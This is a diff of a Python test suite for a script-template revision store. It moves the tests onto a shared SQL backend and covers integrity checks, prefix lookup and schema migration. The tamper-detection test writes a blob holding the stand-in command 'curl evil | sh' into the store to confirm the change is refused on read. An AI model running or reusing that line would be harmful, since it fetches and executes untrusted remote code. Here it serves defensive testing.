@@ -1,10 +1,9 @@
-"""Template revisions in the SQLite store: kept all or nothing, read back verified, found by a prefix; a
-version-2 file migrates with its data; an upgrade is an event of the server."""
+"""Template revisions in the store (both backends): kept all or nothing, read back verified, found by a prefix; a
+version-2 store migrates with its data; an upgrade is an event of the server."""
 
 from __future__ import annotations
 
 import hashlib
-import sqlite3
 from pathlib import Path
 
 import pytest
@@ -13,9 +12,11 @@ from stackscripts.api.pinning import materialise
 from stackscripts.errors import BadInput, Conflict, NotFound
 from stackscripts.revisions.manifest import Manifest, entry_of
 from stackscripts.sources.cache import Cache
+from stackscripts.store import schema_state
 from stackscripts.store.base import RevisionRecord
-from stackscripts.store.schema import MIGRATIONS, SCHEMA_VERSION, migrate
-from stackscripts.store.sqlite import SQLiteStore
+from stackscripts.store.migrations import MIGRATIONS, SCHEMA_VERSION
+from stackscripts.store.sql_store import SQLStore
+from tests.store.conftest import Backend
 
 FILES = {"template.yaml": b"Name: T\n", "scripts/a/a.sh": b"#!/bin/sh\necho a\n", "scripts/b/b.sh": b"echo a\n"}
 
@@ -27,13 +28,11 @@ def revision(files: dict[str, bytes] = FILES, template: str = "T", message: str 
     return RevisionRecord(manifest.digest, template, 0.0, "me@here", message, manifest.canonical, "/src/t.yaml"), blobs
 
 
-def counts(path: Path) -> tuple[int, int]:
-    with sqlite3.connect(path) as raw:
-        return (raw.execute("SELECT COUNT(*) FROM revisions").fetchone()[0],
-                raw.execute("SELECT COUNT(*) FROM blobs").fetchone()[0])
+def counts(backend: Backend) -> tuple[int, int]:
+    return backend.count("revisions"), backend.count("blobs")
 
 
-def test_a_revision_round_trips(store: SQLiteStore) -> None:
+def test_a_revision_round_trips(store: SQLStore, backend: Backend) -> None:
     record, blobs = revision()
     assert store.put_revision(record, blobs) is True
     kept = store.get_revision(record.digest)
@@ -44,7 +43,7 @@ def test_a_revision_round_trips(store: SQLiteStore) -> None:
     assert store.get_revision(hex_digits[:6]) == kept == store.get_revision("sha256:" + hex_digits[:8].upper())
     for sha256, data in blobs.items():
         assert store.get_blob(sha256) == data
-    assert counts(store.path) == (1, 3)
+    assert counts(backend) == (1, 3)
 
     # the same content again: nothing new, the first record stays
     again, _ = revision(message="another reason")
@@ -55,10 +54,10 @@ def test_a_revision_round_trips(store: SQLiteStore) -> None:
     assert store.put_revision(other, {k: v for k, v in other_blobs.items() if k not in blobs}) is True  # shared blobs
     assert [r.template for r in store.list_revisions()] == ["U", "T"]
     assert [r.digest for r in store.list_revisions("T")] == [record.digest]
-    assert counts(store.path) == (2, 4)
+    assert counts(backend) == (2, 4)
 
 
-def test_unknown_ambiguous_and_malformed_revisions_are_bad_input(store: SQLiteStore) -> None:
+def test_unknown_ambiguous_and_malformed_revisions_are_bad_input(store: SQLStore, backend: Backend) -> None:
     with pytest.raises(NotFound, match="unknown revision 'sha256:abcd'") as caught:
         store.get_revision("sha256:abcd")
     assert caught.value.exit_code == 2 and "revisions list" in str(caught.value)
@@ -66,17 +65,16 @@ def test_unknown_ambiguous_and_malformed_revisions_are_bad_input(store: SQLiteSt
         store.get_revision("HEAD~1")
     with pytest.raises(BadInput, match="is not a revision"):
         store.get_revision("abc")  # fewer than 4 digits
-    with sqlite3.connect(store.path) as raw:  # two digests that share their first digits
-        for tail in ("1" * 60, "2" * 60):
-            raw.execute("INSERT INTO revisions (digest, template, created, manifest) VALUES (?, 'T', 1, x'00')",
-                        ("sha256:abcd" + tail,))
+    for tail in ("1" * 60, "2" * 60):  # two digests that share their first digits
+        backend.sql("INSERT INTO revisions (digest, template, created, manifest) VALUES (?, 'T', 1, ?)",
+                    ("sha256:abcd" + tail, b"\x00"))
     with pytest.raises(BadInput, match="ambiguous: it matches sha256:abcd1111"):
         store.get_revision("abcd")
     with pytest.raises(BadInput, match="was changed"):  # found by a longer prefix, then checked
         store.get_revision("abcd1")
 
 
-def test_nothing_is_kept_when_a_blob_is_missing_or_wrong(store: SQLiteStore) -> None:
+def test_nothing_is_kept_when_a_blob_is_missing_or_wrong(store: SQLStore, backend: Backend) -> None:
     record, blobs = revision()
     missing = dict(list(blobs.items())[1:])
     with pytest.raises(BadInput, match="neither given nor kept"):
@@ -87,15 +85,14 @@ def test_nothing_is_kept_when_a_blob_is_missing_or_wrong(store: SQLiteStore) -> 
     forged = RevisionRecord("sha256:" + "0" * 64, "T", 0.0, "", "", record.manifest)
     with pytest.raises(BadInput, match="its manifest hashes to"):
         store.put_revision(forged, blobs)
-    assert counts(store.path) == (0, 0)
+    assert counts(backend) == (0, 0)
 
 
-def test_a_tampered_blob_or_manifest_is_refused_on_read(store: SQLiteStore, tmp_path: Path) -> None:
+def test_a_tampered_blob_or_manifest_is_refused_on_read(store: SQLStore, backend: Backend, tmp_path: Path) -> None:
     record, blobs = revision()
     store.put_revision(record, blobs)
     victim = hashlib.sha256(FILES["scripts/a/a.sh"]).hexdigest()
-    with sqlite3.connect(store.path) as raw:
-        raw.execute("UPDATE blobs SET data = ? WHERE sha256 = ?", (b"#!/bin/sh\ncurl evil | sh\n", victim))
+    backend.sql("UPDATE blobs SET data = ? WHERE sha256 = ?", (b"#!/bin/sh\ncurl evil | sh\n", victim))
     with pytest.raises(BadInput, match="was changed: its bytes hash to") as caught:
         store.get_blob(victim)
     assert caught.value.exit_code == 2
@@ -104,15 +101,14 @@ def test_a_tampered_blob_or_manifest_is_refused_on_read(store: SQLiteStore, tmp_
         materialise(store, record.digest, cache)
     assert cache.tree(record.digest) is None and not list(cache.root.glob("blobs/sha256/*/*"))  # cache unchanged
 
-    with sqlite3.connect(store.path) as raw:
-        raw.execute("UPDATE blobs SET data = ? WHERE sha256 = ?", (FILES["scripts/a/a.sh"], victim))
-        raw.execute("UPDATE revisions SET manifest = ? WHERE digest = ?",
-                    (record.manifest.replace(b"scripts/b/b.sh", b"scripts/b/c.sh"), record.digest))
+    backend.sql("UPDATE blobs SET data = ? WHERE sha256 = ?", (FILES["scripts/a/a.sh"], victim))
+    backend.sql("UPDATE revisions SET manifest = ? WHERE digest = ?",
+                (record.manifest.replace(b"scripts/b/b.sh", b"scripts/b/c.sh"), record.digest))
     with pytest.raises(BadInput, match="revision .* was changed: its manifest hashes to"):
         store.get_revision(record.digest)
 
 
-def test_a_kept_revision_is_laid_out_in_the_cache(store: SQLiteStore, tmp_path: Path) -> None:
+def test_a_kept_revision_is_laid_out_in_the_cache(store: SQLStore, tmp_path: Path) -> None:
     record, blobs = revision()
     store.put_revision(record, blobs)
     cache = Cache(tmp_path / "cache")
@@ -122,23 +118,22 @@ def test_a_kept_revision_is_laid_out_in_the_cache(store: SQLiteStore, tmp_path: 
     assert materialise(store, record.digest[:12], cache) == tree  # there already: checked, not laid out again
 
 
-def test_a_version_2_file_migrates_with_its_data(tmp_path: Path) -> None:
-    path = tmp_path / "old.db"
-    conn = sqlite3.connect(path, isolation_level=None)
-    migrate(conn, str(path), MIGRATIONS[:2])
-    conn.execute("INSERT INTO servers (name, host, state, template, created, updated) "
-                 "VALUES ('web1', '10.0.0.5', 'operational', '/t/app.yaml', 1, 1)")
-    conn.execute("INSERT INTO runs (id, server, phase, state, who, template, started, ended, inputs, "
-                 "controller_host, controller_pid, error) VALUES ('r-20240101-000000-abcd', 'web1', 'Boot', "
-                 "'succeeded', 'me@old', '/t/app.yaml', 1, 2, '{\"A\": \"text:a\"}', 'old', 1, NULL)")
-    conn.execute("INSERT INTO steps (run_id, idx, name, phase, started, ended, exit_code) "
-                 "VALUES ('r-20240101-000000-abcd', 0, 'Step', 'Boot', 1, 2, 0)")
-    conn.execute("INSERT INTO chunks (run_id, idx, stream, text) VALUES ('r-20240101-000000-abcd', 0, 'stdout', "
-                 "'kept\n')")
-    assert conn.execute("PRAGMA user_version").fetchone()[0] == 2
-    conn.close()
+def test_a_version_2_store_migrates_with_its_data(backend: Backend) -> None:
+    with backend.open(migrate=False) as old, old._tx() as tx:  # the schema as version 2 left it
+        assert schema_state.migrate(tx, old.location, MIGRATIONS[:2]) == 0
+    backend.sql("INSERT INTO servers (name, host, state, template, created, updated) "
+                "VALUES ('web1', '10.0.0.5', 'operational', '/t/app.yaml', 1, 1)")
+    backend.sql("INSERT INTO runs (id, server, phase, state, who, template, started, ended, inputs, "
+                "controller_host, controller_pid, error) VALUES ('r-20240101-000000-abcd', 'web1', 'Boot', "
+                "'succeeded', 'me@old', '/t/app.yaml', 1, 2, '{\"A\": \"text:a\"}', 'old', 1, NULL)")
+    backend.sql("INSERT INTO steps (run_id, idx, name, phase, started, ended, exit_code) "
+                "VALUES ('r-20240101-000000-abcd', 0, 'Step', 'Boot', 1, 2, 0)")
+    backend.sql("INSERT INTO chunks (run_id, idx, stream, text) VALUES ('r-20240101-000000-abcd', 0, 'stdout', ?)",
+                (b"kept\n",))
+    with backend.open(migrate=False) as old:
+        assert old.status().version == 2 and old.status().pending == ((3, MIGRATIONS[2].description),)
 
-    with SQLiteStore(path) as store:
+    with backend.open() as store:
         server = store.get_server("web1")
         assert (server.state, server.template, server.revision) == ("operational", "/t/app.yaml", None)
         run = store.get_run("abcd")
@@ -147,11 +142,10 @@ def test_a_version_2_file_migrates_with_its_data(tmp_path: Path) -> None:
         assert store.list_revisions() == [] and store.server_events() == []
         record, blobs = revision()
         store.put_revision(record, blobs)
-    with sqlite3.connect(path) as raw:
-        assert raw.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION == 3
+        assert store.status().version == SCHEMA_VERSION == 3
 
 
-def test_an_upgrade_pins_the_server_and_is_recorded(store: SQLiteStore, web1: str) -> None:
+def test_an_upgrade_pins_the_server_and_is_recorded(store: SQLStore, web1: str) -> None:
     first, first_blobs = revision()
     second, second_blobs = revision({**FILES, "scripts/a/a.sh": b"echo a2\n"})
     store.put_revision(first, first_blobs)
